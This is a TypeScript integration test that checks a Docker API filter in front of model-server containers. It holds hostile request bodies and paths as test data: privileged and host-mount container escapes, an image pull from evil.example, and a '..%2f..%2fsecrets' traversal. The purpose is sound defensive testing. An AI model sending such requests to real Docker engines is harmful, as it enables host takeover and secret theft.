import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requireService } from "../../packages/adapters-storage/test/support/services.ts";
import { callEngine } from "../../scripts/images/engine.mjs";
import { buildTarget } from "../../scripts/images/modelgate-image.mjs";
import { compose, findCompose } from "./support/compose.ts";
import { until } from "./support/engine.ts";

const socket = requireService("DOCKER_SOCKET") ?? "";
const testImage = requireService("DOCKER_TEST_IMAGE") ?? "";
const program = socket === "" ? undefined : await findCompose();
const NETWORK = "modelgate_models";

describe.skipIf(program === undefined)(
  "the small profile of compose.yaml, with deployments behind the filter",
  () => {
    const project = `modelgate-${randomBytes(4).toString("hex")}`;
    const [gateway, server] = [`modelgate:${project}`, `modelgate/nlp-server:${project}`];
    const files = ["compose.yaml", "test/packaging/support/compose.deploys.yaml"].flatMap((file) => [
      "--file",
      file,
    ]);
    const env = {
      DOCKER_HOST: `unix://${socket}`,
      DOCKER_SOCK: socket,
      DOCKER_TEST_IMAGE: testImage,
      FILTER_IMAGES: testImage,
      MODELGATE_IMAGE: gateway,
      NLP_SERVER_IMAGE: server,
      NLP_SERVER_ENGINE: "echo",
      MODELGATE_PUBLISHED_PORT: "0",
    };
    const call = (...args: string[]): Promise<string> =>
      compose(program ?? "", ["--project-name", project, ...files, "--profile", "embedded", ...args], env);
    let url: string;
    let filter: string;

    beforeAll(async () => {
      await buildTarget(socket, "modelgate", gateway);
      await buildTarget(socket, "nlp-server", server);
      await call("up", "--no-build", "--wait", "--wait-timeout", "60").catch(async () => {
        throw new Error(await call("logs", "--no-color"));
      });
      url = `http://${await addressOf("modelgate-embedded", "front")}:8888`;
      filter = `http://${await addressOf("docker-filter", "engine")}:2375`;
    });
    afterAll(async () => {
      if (program === undefined) return;
      await removeDeployed();
      await call("down", "--volumes", "--timeout", "1");
      for (const image of [gateway, server])
        await callEngine(socket, `/images/${image}?force=1`, { method: "DELETE" });
    });

    async function addressOf(service: string, network: string): Promise<string> {
      const { json } = await callEngine(socket, `/containers/${project}-${service}-1/json`);
      return json().NetworkSettings.Networks[`${project}_${network}`].IPAddress;
    }

    async function removeDeployed(): Promise<void> {
      const filters = JSON.stringify({ label: ["modelgate.installation"], network: [NETWORK] });
      const { json } = await callEngine(
        socket,
        `/containers/json?all=1&filters=${encodeURIComponent(filters)}`,
      );
      for (const { Id } of json() as { Id: string }[])
        await callEngine(socket, `/containers/${Id}?force=1&v=1`, { method: "DELETE" });
    }

    async function run(model: string, text: string): Promise<string> {
      const target = `${url}/models/${model}/tasks/process`;
      const taken = await fetch(target, {
        method: "POST",
        headers: { "content-type": "text/plain" },
        body: text,
      });
      const { uuid } = (await taken.json()) as { uuid: string };
      let status = "";
      await until(`the task of ${model} ends`, async () => {
        status = ((await (await fetch(`${url}/tasks/${uuid}`)).json()) as { status: string }).status;
        return status === "succeeded" || status === "failed";
      });
      return status;
    }

    it("runs a task on the example server, and one on a server that it deploys", async () => {
      expect(await run("nlp", "Seen in Berlin.")).toBe("succeeded");
      const body = JSON.stringify({ model_uri: "test:/one" });
      const headers = { "content-type": "application/json" };
      const deployed = await fetch(`${url}/models/${project}`, { method: "POST", headers, body });
      expect({ status: deployed.status, text: await deployed.text() }).toMatchObject({ status: 200 });
      expect(await run(project, "Seen in Hamburg.")).toBe("succeeded");
      const removed = await fetch(`${url}/models/${project}`, { method: "DELETE" });
      expect(removed.status).toBe(204);
    });

    const allowed = {
      Image: testImage,
      Labels: { "modelgate.installation": "x" },
      HostConfig: { NetworkMode: NETWORK, SecurityOpt: ["no-new-privileges:true"] },
    };
    const host = (more: object): object => ({ ...allowed, HostConfig: { ...allowed.HostConfig, ...more } });
    const create = (body: object | string): Promise<Response> =>
      fetch(`${filter}/v1.41/containers/create?name=${project}-x`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: typeof body === "string" ? body : JSON.stringify(body),
      });

    it.each([
      ["a privileged server", host({ Privileged: true }), "Privileged"],
      ["a folder of the host", host({ Binds: ["/:/host"] }), "Binds"],
      ["a mount of the host", host({ Mounts: [{ Type: "bind", Source: "/", Target: "/host" }] }), "Mounts"],
      [
        "another's volume",
        host({ Mounts: [{ Type: "volume", Source: "postgres", Target: "/x" }] }),
        "Mounts",
      ],
      ["the host's network", host({ NetworkMode: "host" }), "NetworkMode"],
      ["another container's network", host({ NetworkMode: "container:x" }), "NetworkMode"],
      ["the host's processes", host({ PidMode: "host" }), "PidMode"],
      ["capabilities", host({ CapAdd: ["SYS_ADMIN"] }), "CapAdd"],
      ["a device", host({ Devices: [{ PathOnHost: "/dev/sda" }] }), "Devices"],
      ["privileges that can be gained", host({ SecurityOpt: ["seccomp=unconfined"] }), "SecurityOpt"],
      ["a field in another case", { ...host({}), hostconfig: { Privileged: true } }, "hostconfig"],
      ["another image", { ...allowed, Image: "other:1" }, "Image"],
      ["what is no model server", { ...allowed, Labels: {} }, "Labels"],
    ])("refuses %s", async (_what, body, field) => {
      const answer = await create(body);
      const { message } = (await answer.json()) as { message: string };
      expect({ status: answer.status, message }).toEqual({
        status: 403,
        message: `refused by the filter: not allowed for a model server: ${field}`,
      });
    });

    it("puts nothing together of what stands twice in a request", async () => {
      const text = JSON.stringify(allowed).replace(
        '"HostConfig":',
        '"HostConfig":{"Privileged":true},"HostConfig":',
      );
      const answer = await create(text);
      expect(answer.status).toBe(201);
      const { Id } = (await answer.json()) as { Id: string };
      const { json } = await callEngine(socket, `/containers/${Id}/json`);
      expect(json().HostConfig.Privileged).toBe(false);
    });

    it("leaves containers that are no model servers alone, and tells nothing that they are given", async () => {
      const name = `${project}-modelgate-embedded-1`;
      for (const [method, path] of [
        ["POST", "stop"],
        ["POST", "start"],
        ["GET", "logs?stdout=1"],
        ["DELETE", ""],
      ]) {
        const answer = await fetch(`${filter}/containers/${name}/${path}`.replace(/\/$/, ""), { method });
        expect({ path, status: answer.status }).toEqual({ path, status: 403 });
        expect(await answer.text()).toContain("is no model server");
      }
      const { Config, State } = (await (await fetch(`${filter}/containers/${name}/json`)).json()) as {
        Config: { Env: null };
        State: { Running: boolean };
      };
      expect({ env: Config.Env, running: State.Running }).toEqual({ env: null, running: true });
    });

    it.each([
      ["POST", "/containers/x/exec"],
      ["POST", "/build"],
      ["POST", "/v1.41/images/load"],
      ["POST", "/images/create?fromSrc=http://evil.example/x.tar"],
      ["POST", "/images/create?fromImage=evil.example/x&tag=1"],
      ["GET", "/containers/x/archive?path=/"],
      ["GET", "/v1.41/volumes"],
      ["GET", "/secrets"],
      ["GET", "/containers/..%2f..%2fsecrets/json"],
      ["PUT", "/containers/x/archive"],
    ])("refuses %s %s", async (method, path) => {
      expect((await fetch(filter + path, { method, signal: AbortSignal.timeout(5000) })).status).toBe(403);
    });
  },
);
